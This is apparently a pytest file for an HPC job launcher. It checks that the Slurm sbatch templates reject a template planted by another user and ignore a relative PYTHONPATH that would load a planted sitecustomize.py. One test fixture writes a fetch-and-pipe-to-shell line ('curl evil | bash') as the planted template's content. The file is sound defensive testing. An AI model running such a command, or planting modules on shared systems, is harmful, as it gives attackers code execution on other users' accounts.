"""The sbatch templates in slurm/ under bash: planted files and a relative PYTHONPATH."""

import os
import subprocess
import sys
from pathlib import Path

import pytest
from batch_study import SRUN, stand_in
from login_study import command, grid, pack, planned, write_grid

from furnace_hpc.config.cluster import ClusterProfile
from furnace_hpc.host.portable import ENVIRONMENT
from furnace_hpc.launch.submission import write_specs, write_submission
from furnace_hpc.runs.snapshot import source

SLURM = Path(__file__).parents[2] / "slurm"
OTHER_USER = 65534
CANARY = "import os; open(os.environ['CANARY'], 'w').write('planted')"


@pytest.mark.skipif(os.getuid() != 0, reason="only root can give a file to another user")
@pytest.mark.parametrize(
    ("owner", "modes", "problem"),
    [
        (OTHER_USER, (0o1777, 0o755), "belongs to user nobody"),
        (0, (0o755, 0o777), "may be written by all users"),
    ],
    ids=["planted in a sticky folder", "in a folder that all can write"],
)
def test_a_planted_template_is_not_printed(tmp_path, owner, modes, problem):
    """`submit --prepare` prints a command with the template, and prefers the working directory."""
    place = tmp_path / "project"
    template = place / "slurm" / "array.sbatch"
    template.parent.mkdir(parents=True)
    template.write_text("#!/bin/bash\ncurl evil | bash\n")
    for path in (template.parent, template):
        os.chown(path, owner, owner)
    write_grid(place)
    pack(place / "data" / "tridigits")
    (tmp_path / "c.yaml").write_text("name: c\nexecutor: slurm\ngpu_flag: null\n")
    words = ("--grid", "study.yaml", "--cluster", str(tmp_path / "c.yaml"), "--prepare")
    place.chmod(modes[0])
    template.parent.chmod(modes[1])
    done = command("submit", place, *words)
    assert done.returncode == 2, done.stdout
    assert "slurm/array.sbatch" in done.stderr
    assert problem in done.stderr
    assert "sbatch --array" not in done.stdout
    assert not (place / "runs").exists()
    for path in (template.parent, template):
        os.chown(path, 0, 0)
    template.parent.chmod(0o755)
    done = command("submit", place, *words)
    assert done.returncode == 0, done.stderr
    assert " slurm/array.sbatch " in done.stdout


@pytest.fixture
def submission(tmp_path):
    """A prepared submission with the folders of its runs."""
    plan = planned(
        tmp_path / "runs", grid(), ClusterProfile(name="c", executor="slurm", gpu_flag=None)
    )
    written = write_submission(plan)
    write_specs(plan)
    return written


@pytest.mark.parametrize("name", ["array", "train", "pack", "aggregate"])
def test_a_relative_python_path_reaches_no_python(tmp_path, submission, name):
    """An empty part is the working directory, where other users can put a sitecustomize.py."""
    place, tools, canary = tmp_path / "shared", tmp_path / "tools", tmp_path / "canary"
    for folder in (place, place / "lib", tools):
        folder.mkdir()
    for folder in (place, place / "lib"):
        (folder / "sitecustomize.py").write_text(CANARY)
    stand_in(tools / "srun", SRUN)
    environment = os.environ | {
        "SLURM_JOB_ID": "93",
        "SLURM_ARRAY_JOB_ID": "91",
        "SLURM_ARRAY_TASK_ID": "0",
        "FURNACE_PYTHON": sys.executable,
        "PYTHONPATH": ":lib:/absolute:.",
        "PATH": f"{tools}:{os.environ['PATH']}",
        "CANARY": str(canary),
        "STAND_IN": str(tools),
        "WORDS": "done",
        "CODE": "0",
        "THEN": "",
    }
    bare = [sys.executable, "-P", "-c", "pass"]
    subprocess.run(bare, cwd=place, env=environment, check=True)
    assert canary.read_text() == "planted"  # the attack works without the template
    canary.unlink()
    arguments = {
        "array": [str(submission.path)],
        "train": [submission.rows[0].run_dir],
        "pack": ["nothing"],
        "aggregate": ["--grid", "nothing"],
    }
    script = ["bash", str(SLURM / f"{name}.sbatch"), *arguments[name]]
    done = subprocess.run(script, cwd=place, env=environment, capture_output=True, text=True)
    assert not canary.exists()
    if name in ("pack", "aggregate"):
        assert (done.returncode, "'nothing'" in done.stderr) == (2, True), done.stderr
        return
    assert done.returncode == 0, done.stdout + done.stderr
    code = tmp_path / "runs" / "study" / "code" / source().snapshot_hash
    assert (tools / "path").read_text() == f"{code}:/absolute"


@pytest.mark.parametrize("name", ["array", "train"])
@pytest.mark.parametrize("portable", [True, False])
def test_a_portable_run_gets_its_variables(tmp_path, name, portable):
    base = {**grid().base, "portable": portable}
    profile = ClusterProfile(name="c", executor="slurm", gpu_flag=None)
    plan = planned(tmp_path / "runs", grid(base=base), profile)
    written, tools = write_submission(plan), tmp_path / "tools"
    write_specs(plan)
    tools.mkdir()
    stand_in(tools / "srun", SRUN)
    variables = {n: v for n, v in os.environ.items() if n not in ENVIRONMENT}
    variables |= {
        "SLURM_JOB_ID": "93",
        "SLURM_ARRAY_JOB_ID": "91",
        "SLURM_ARRAY_TASK_ID": "0",
        "FURNACE_PYTHON": sys.executable,
        "PATH": f"{tools}:{os.environ['PATH']}",
        "STAND_IN": str(tools),
        "WORDS": "done",
        "CODE": "0",
        "THEN": 'env > "$STAND_IN/variables"',
    }
    place = {"array": str(written.path), "train": written.rows[0].run_dir}[name]
    script = ["bash", str(SLURM / f"{name}.sbatch"), place]
    done = subprocess.run(script, cwd=tmp_path, env=variables, capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr
    found = dict(
        line.partition("=")[::2] for line in (tools / "variables").read_text().splitlines()
    )
    assert {n: found[n] for n in ENVIRONMENT if n in found} == (ENVIRONMENT if portable else {})
